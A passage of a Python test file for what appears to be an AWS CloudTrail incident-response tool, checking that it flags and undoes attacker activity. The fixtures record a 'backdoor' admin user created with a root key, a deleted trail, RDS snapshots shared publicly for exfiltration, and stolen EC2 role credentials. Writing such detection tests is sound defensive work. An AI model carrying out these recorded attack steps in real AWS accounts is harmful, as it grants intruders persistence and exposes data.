    login = next(c for c in found.credentials if c.minted_by == "CreateLoginProfile")
    assert login.session_arn == evil and login.parent == ROOT_KEY
    assert {e.event_name for e in found.flagged} >= {"CreateLoginProfile", "DeleteTrail"}


def test_more_days_than_the_calendar_holds_is_the_whole_history(store: ActivityStore) -> None:
    """`--days 1000000` counts back past year 1: the whole history, not an OverflowError"""
    assert window(store, 1_000_000) == (None, None)
    assert window(store, 999_999_999_999) == (None, None)
    found = _key(store, days=1_000_000)
    assert found.since is None and len(found.timeline) == len(_key(store, days=None).timeline)


def test_a_created_user_is_deleted_after_its_policies_and_keys(tmp_path: Path) -> None:
    """IAM User Guide, "Deleting an IAM user (AWS CLI)": DeleteUser fails with DeleteConflict
    until the user's policies, keys, login profile, MFA devices and groups are gone"""
    iam = "iam.amazonaws.com"
    root = {"account": A, "key": ROOT_KEY, "arn": ROOT}
    user = {"userName": "backdoor"}
    records = [
        _call("CreateUser", "2026-03-01T10:00:00Z", source=iam, params=user, **root),
        _call(
            "CreateAccessKey",
            "2026-03-01T10:01:00Z",
            source=iam,
            params=user,
            response={"accessKey": {"accessKeyId": BACKDOOR_KEY}},
            **root,
        ),
        _call(
            "AttachUserPolicy",
            "2026-03-01T10:02:00Z",
            source=iam,
            params={**user, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
            **root,
        ),
        _call("CreateLoginProfile", "2026-03-01T10:03:00Z", source=iam, params=user, **root),
    ]
    with _store_of(tmp_path, records) as store:
        found = investigate(store, access_key=ROOT_KEY)
    delete = [c.split("  #")[0] for c in found.plan[3].commands]
    order = [
        "aws iam detach-user-policy --user-name backdoor --policy-arn "
        "arn:aws:iam::aws:policy/AdministratorAccess",
        f"aws iam delete-access-key --user-name backdoor --access-key-id {BACKDOOR_KEY}",
        "aws iam delete-login-profile --user-name backdoor",
        "aws iam delete-user --user-name backdoor",
    ]
    assert [delete.index(c) for c in order] == sorted(delete.index(c) for c in order)
    assert delete.index(order[-1]) > max(
        i
        for i, c in enumerate(delete)
        if not c.startswith("aws iam delete-access-key --access") and "delete-user " not in c
    )


def test_rds_cluster_and_instance_snapshot_sharing_is_flagged_with_its_undo() -> None:
    """RDS API Reference, "ModifyDBClusterSnapshotAttribute" / "ModifyDBSnapshotAttribute":
    attribute `restore`, ValuesToAdd the account ids (or `all`); ValuesToRemove undoes it"""
    cluster = flag(
        "rds.amazonaws.com",
        "ModifyDBClusterSnapshotAttribute",
        {
            "dBClusterSnapshotIdentifier": "prod-snap",
            "attributeName": "restore",
            "valuesToAdd": ["all"],
        },
        None,
        account=A,
        region="eu-west-1",
    )
    assert cluster is not None and cluster.category == "exfiltration"
    assert cluster.undo[-1] == (
        "aws rds modify-db-cluster-snapshot-attribute --db-cluster-snapshot-identifier prod-snap "
        "--attribute-name restore --values-to-remove all --region eu-west-1"
    )
    instance = flag(
        "rds.amazonaws.com",
        "ModifyDBSnapshotAttribute",
        {"dBSnapshotIdentifier": "db-snap", "attributeName": "restore", "valuesToAdd": [B]},
        None,
        account=A,
        region="eu-west-1",
    )
    assert instance is not None
    assert instance.undo[-1] == (
        "aws rds modify-db-snapshot-attribute --db-snapshot-identifier db-snap "
        f"--attribute-name restore --values-to-remove {B} --region eu-west-1"
    )


def test_stratus_stolen_ec2_role_session_key_revokes_the_role(
    stratus_store: ActivityStore,
) -> None:
    """ec2-steal-instance-credentials: the stolen instance-role key (ASIA…) cannot be
    deactivated; the plan denies the role's older sessions (IAM User Guide, "Revoking IAM role
    temporary security credentials") and says the key's minting call is not in the trail"""
    found = investigate(stratus_store, access_key="ASIAP5CT9NN8EYVU1FXV", days=None)
    deactivate = found.plan[0].commands
    assert [c.split(" --policy-document")[0] for c in deactivate] == [
        "aws iam put-role-policy --role-name stratus-red-team-ec2-steal-credentials-role "
        "--policy-name AWSRevokeOlderSessions"
    ]
    assert deactivate[0].endswith("# account 017622104382")
    assert found.not_assessed[0].startswith("ASIAP5CT9NN8EYVU1FXV: no call in the store minted")
